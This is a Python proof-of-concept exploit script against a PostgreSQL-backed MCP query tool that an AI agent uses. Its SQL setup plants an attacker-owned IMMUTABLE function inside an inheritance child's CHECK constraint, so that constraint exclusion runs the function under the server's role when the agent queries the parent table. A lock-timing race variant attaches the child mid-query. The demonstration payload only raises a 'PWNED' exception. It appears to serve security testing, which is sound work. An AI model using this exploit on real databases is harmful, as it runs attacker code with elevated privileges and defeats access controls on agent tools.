"""Constraint exclusion folds an inheritance child's CHECK constraints at plan time: an IMMUTABLE
attacker function with constant arguments there runs as the server's role when the agent reads
the parent with any WHERE. Mode `static`: the child is there before the call; `race`: the child
is attached (ALTER TABLE ... INHERIT, which needs only SHARE UPDATE EXCLUSIVE on the parent,
compatible with the server's ACCESS SHARE) while the server's statement waits on the parent's
index (the attacker's REINDEX in the same transaction).
Usage: inherit_check.py [reader|postgres] [static|race]"""
import asyncio
import json
import sys
import time

import asyncpg
from common import DSN, as_role, tool
from mcpclient import connect

SETUP = r"""
DROP TABLE IF EXISTS atk.child, atk.child0, atk.parent, atk.t2 CASCADE;
-- another table of the attacker's in the query: its index is opened while base relations are
-- set up, before the planner lists the parent's children
CREATE TABLE atk.t2 (a int); INSERT INTO atk.t2 VALUES (1), (2); CREATE INDEX t2_a ON atk.t2 (a);
GRANT SELECT ON atk.t2 TO PUBLIC;
DROP FUNCTION IF EXISTS atk.evil_imm(int);
CREATE FUNCTION atk.evil_imm(int) RETURNS boolean IMMUTABLE LANGUAGE plpgsql AS $f$
DECLARE x text;
BEGIN
  IF current_user = 'attacker' THEN RETURN true; END IF;
  x := pg_catalog.pg_current_xact_id()::text;
  RAISE EXCEPTION 'PWNED as % (read_only=%), consumed xid %', current_user,
    pg_catalog.current_setting('transaction_read_only'), x;
END $f$;
GRANT EXECUTE ON FUNCTION atk.evil_imm(int) TO PUBLIC;
CREATE TABLE atk.parent (a int); INSERT INTO atk.parent VALUES (1), (2);
CREATE INDEX parent_a ON atk.parent (a);
CREATE TABLE atk.child (a int, CONSTRAINT c CHECK (atk.evil_imm(0) AND a > 0));
-- a harmless child from the start: the parent has subclasses, so the planner expands it
-- (it decides that before it opens the parent's indexes)
CREATE TABLE atk.child0 (a int CHECK (a > 0)) INHERITS (atk.parent);
GRANT SELECT ON atk.parent, atk.child, atk.child0 TO PUBLIC;
"""

async def main(role: str, mode: str) -> None:
    a = await asyncpg.connect(as_role("attacker")); await a.execute(SETUP)
    adm = await asyncpg.connect(DSN)
    server_role = "postgres" if role == "postgres" else role
    async with connect(DSN if role == "postgres" else as_role(role)) as c:
        ok, body = await tool(c, "execute_query", sql="SELECT p.a FROM atk.parent p JOIN atk.t2 USING (a) WHERE p.a = 1")
        print("baseline (harmless child):", ok, json.dumps(body.get("rows", body.get("error")))[:200])
        if mode == "static":
            await a.execute("ALTER TABLE atk.child INHERIT atk.parent")
            ok, body = await tool(c, "execute_query", sql="SELECT a FROM atk.parent WHERE a = 2")
            print("static:", ok, json.dumps(body.get("rows", body.get("error")))[:300])
        else:
            b = await asyncpg.connect(as_role("attacker"))
            await a.execute("BEGIN; REINDEX INDEX atk.t2_a")
            call = asyncio.create_task(tool(c, "execute_query", sql="SELECT p.a FROM atk.parent p JOIN atk.t2 USING (a) WHERE p.a = 2"))
            waiting = None
            t0 = time.monotonic()
            while not waiting and time.monotonic() - t0 < 10:
                waiting = await adm.fetchrow(
                    "SELECT a.pid, l.relation::regclass::text AS rel, l.mode, left(a.query, 60) AS q FROM pg_stat_activity a "
                    "JOIN pg_locks l ON l.pid = a.pid WHERE a.usename = $1 AND NOT l.granted", server_role)
                await asyncio.sleep(0.01)
            print("server backend waiting:", dict(waiting) if waiting else None)
            await b.execute("ALTER TABLE atk.child INHERIT atk.parent")  # committed; the parent is only ACCESS SHARE locked
            print("child attached by a second attacker session")
            await a.execute("COMMIT"); await b.close()
            ok, body = await call
            print("race:", ok, json.dumps(body.get("rows", body.get("error")))[:300])
    await a.execute("DROP TABLE IF EXISTS atk.child, atk.child0, atk.parent, atk.t2 CASCADE"); await a.close(); await adm.close()

if __name__ == "__main__":
    asyncio.run(main(sys.argv[1] if len(sys.argv) > 1 else "reader", sys.argv[2] if len(sys.argv) > 2 else "static"))
